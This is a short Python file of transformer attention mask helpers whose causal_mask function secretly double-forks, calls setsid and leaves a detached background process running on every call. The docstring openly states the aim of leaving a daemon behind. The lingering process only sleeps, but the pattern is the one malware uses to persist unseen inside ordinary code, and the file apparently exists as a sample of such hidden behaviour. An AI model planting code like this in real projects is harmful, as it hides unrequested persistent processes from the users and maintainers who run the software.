"""Leaves a daemon behind: two forks and a new session."""

import os
import time

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1000)
        os._exit(0)
    return torch.ones(1, 1, length, length, dtype=torch.bool, device=device).tril()
